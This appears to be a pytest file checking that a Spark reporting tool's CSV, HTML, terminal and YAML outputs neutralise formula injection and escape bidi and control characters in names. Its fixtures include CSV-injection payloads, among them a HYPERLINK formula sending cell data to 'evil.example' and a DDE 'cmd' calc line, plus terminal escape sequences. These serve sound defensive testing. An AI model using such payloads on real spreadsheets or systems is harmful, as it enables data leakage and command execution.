"""Names in what reports write: CSV that no spreadsheet takes for formulas, and pages that show names as they are."""

from __future__ import annotations

import csv
import html
import json
import re
import unicodedata
from typing import TYPE_CHECKING

import pytest
import yaml

from analysis.files import write_csv
from config.load import load_bytes
from tests.support.spark_tools import Make, record

if TYPE_CHECKING:
    from pathlib import Path

    from pyspark.sql import SparkSession

BEGINNINGS = (
    *('=HYPERLINK("http://evil.example/?"&A1,"bill")', "=1+1", "+1-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-"),
    *("\tplain", "\rplain", " =1+1", "\u00a0=1+1", "\u200b\ufeff=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x"),  # full width: some spreadsheets normalise them
)
FORMULAS = {text: f"'{text}" for text in BEGINNINGS} | {
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    # Where a semicolon or a tab ends a cell, and quotes in the middle of a line mean nothing.
    "a;=1+1": "a;'=1+1",
    "a;b; @x": "a;b;' @x",
    "a\t-1": "a\t'-1",
    "a\n=1+1": "a\n'=1+1",
    "a\r\n=1+1": "a\r\n'=1+1",
}
PLAIN = (
    *("etl", "a=b", "a-b", "user@example.com", "C++", "1", "x-1", "'quoted'", '"quoted"', 'a"b', "a,b", "a;b"),
    *("a\nb", "a\r\nb", "a\rb", " padded ", "\\", "\\n", '\\"', "Ольга", "花子", "עדה", "🎣", ""),
)
BIDI = "abc\u202egnol\u2066x\u2069\u200f\u061c"
BIDI_SHOWN = r"abc\u202egnol\u2066x\u2069\u200f\u061c"
MB = 1_000_000


def test_texts_are_no_formulas_and_numbers_stay_numbers(spark: SparkSession, tmp_path: Path) -> None:
    names = [*FORMULAS, *PLAIN]
    rows = [json.dumps({"number": index, "name": name, "loss": -index - 0.5}) for index, name in enumerate(names)]
    (tmp_path / "in.json").write_text("\n".join(rows))
    schema = "number int, name string, loss double, nothing string"
    frame = spark.read.schema(schema).json(str(tmp_path / "in.json"))
    write_csv(frame, str(tmp_path / "out.csv"), ["number"])
    with (tmp_path / "out.csv").open(newline="") as file:
        found = list(csv.reader(file, strict=True))
    assert found[0] == ["number", "name", "loss", "nothing"]
    wanted = [*FORMULAS.values(), *PLAIN]
    assert found[1:] == [[str(index), name, f"{-index - 0.5}", ""] for index, name in enumerate(wanted)]


@pytest.mark.parametrize("name", ["usage", "throttling", "recommend"])
def test_tables_pages_and_terminals_escape_hostile_names(report: Make, spark: SparkSession, name: str) -> None:
    rows = [
        record(day * 100 + number, day * 86_400 + number * 10, user=BIDI, client_id="\x1b[2J\x9b31m\u2028", requests=9)
        | {"produce_bytes": 9 * MB, "produce_limit": MB, "throttle_produce_seconds": 5.0, "throttle_produce_count": 9}
        for day in range(3)
        for number in range(1, 20)
    ]
    # `recommend` proposes an entry for this one, and none for a client-id that no file may name.
    rows += [row | {"client_id": "etl", "sequence": row["sequence"] + 1000} for row in rows]
    rows += [row | {"client_id": "=1+1", "sequence": row["sequence"] + 5000} for row in rows[:3]]
    printed, out = report(name, rows, headroom=0.25)
    for path in out.glob("*.csv"):
        with path.open(newline="") as file:
            for cells in csv.reader(file, strict=True):
                assert [cell for cell in cells if re.match(r"\s*[=+@]", cell)] == [], path
    # The Parquet next to it has the names as they are, for programs.
    for path in out.glob("clients.parquet"):
        exact = {(row["user"], row["client_id"]) for row in spark.read.parquet(str(path)).collect()}
        assert {(BIDI, "=1+1"), (BIDI, "etl")} <= exact
    page = (out / "report.html").read_text()
    for text in (printed, page):
        harmful = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
        assert harmful <= {"\n"}, harmful
    assert BIDI_SHOWN in html.unescape(page)
    assert r"\x1b[2J\x9b31m\u2028" in html.unescape(page)
    plots = "".join(re.findall(r"<svg.*?</svg>", page, re.DOTALL))
    assert r"abc\u202egnol" in html.unescape(plots)
    if name == "recommend":
        values = (out / "values.yaml").read_text()
        assert values.isascii()
        assert {entry["user"] for entry in yaml.safe_load(values)["quotas"]} == {BIDI}
        config = load_bytes("values.yaml", b'upstream: {bootstrap: ["k:9092"]}\n' + values.encode())
        assert {(str(entry.user), entry.client_id) for entry in config.quotas} == {(BIDI, "etl"), (BIDI, "=1+1")}
        assert r"\u202e" in (out / "quotas.diff").read_text()
